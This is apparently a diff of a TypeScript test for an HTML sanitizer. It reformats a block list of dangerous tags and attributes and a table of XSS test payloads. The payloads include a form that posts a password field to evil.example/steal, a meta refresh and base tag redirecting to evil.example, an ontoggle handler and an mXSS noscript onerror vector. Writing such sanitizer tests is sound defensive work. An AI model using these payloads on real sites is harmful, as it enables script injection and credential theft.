@@ -16,11 +16,39 @@ function dangers(box: HTMLElement): string[] {
   const found: string[] = [];
   for (const el of box.querySelectorAll('*')) {
     const tag = el.tagName.toLowerCase();
-    if (['script', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'style', 'link', 'meta', 'base', 'svg', 'math', 'template', 'noscript', 'textarea', 'select', 'video', 'audio', 'source', 'details'].includes(tag)) found.push(`<${tag}>`);
+    if (
+      [
+        'script',
+        'iframe',
+        'frame',
+        'object',
+        'embed',
+        'form',
+        'input',
+        'button',
+        'style',
+        'link',
+        'meta',
+        'base',
+        'svg',
+        'math',
+        'template',
+        'noscript',
+        'textarea',
+        'select',
+        'video',
+        'audio',
+        'source',
+        'details',
+      ].includes(tag)
+    )
+      found.push(`<${tag}>`);
     for (const attr of el.attributes) {
       const name = attr.name.toLowerCase();
-      if (name.startsWith('on') || ['style', 'srcdoc', 'formaction', 'action', 'xlink:href', 'srcset', 'background', 'ping'].includes(name)) found.push(`${tag}[${name}]`);
-      if (['href', 'src'].includes(name) && !/^(?:https?:|mailto:|data:image\/(?:png|gif|jpeg|webp);base64,)/i.test(attr.value)) found.push(`${tag}[${name}=${attr.value}]`);
+      if (name.startsWith('on') || ['style', 'srcdoc', 'formaction', 'action', 'xlink:href', 'srcset', 'background', 'ping'].includes(name))
+        found.push(`${tag}[${name}]`);
+      if (['href', 'src'].includes(name) && !/^(?:https?:|mailto:|data:image\/(?:png|gif|jpeg|webp);base64,)/i.test(attr.value))
+        found.push(`${tag}[${name}=${attr.value}]`);
     }
   }
   return found;
@@ -37,7 +65,10 @@ const PAYLOADS: [string, string][] = [
   ['object and embed', `<object data="/evil.swf"></object><embed src="/evil.swf">`],
   ['remote stylesheet', `<link rel="stylesheet" href="/evil.css"><style>@import url(/evil.css); body{background:url(/x)}</style>`],
   ['style attribute', `<p style="background:url(/probe)">styled</p>`],
-  ['form posting elsewhere', `<form action="https://evil.example/steal" method="post"><input name="pw"><button formaction="https://evil.example">Go</button></form>`],
+  [
+    'form posting elsewhere',
+    `<form action="https://evil.example/steal" method="post"><input name="pw"><button formaction="https://evil.example">Go</button></form>`,
+  ],
   ['meta refresh and base', `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`],
   ['details ontoggle', `<details open ontoggle="window.__ptcXss=true"><summary>s</summary></details>`],
   ['mXSS noscript', `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
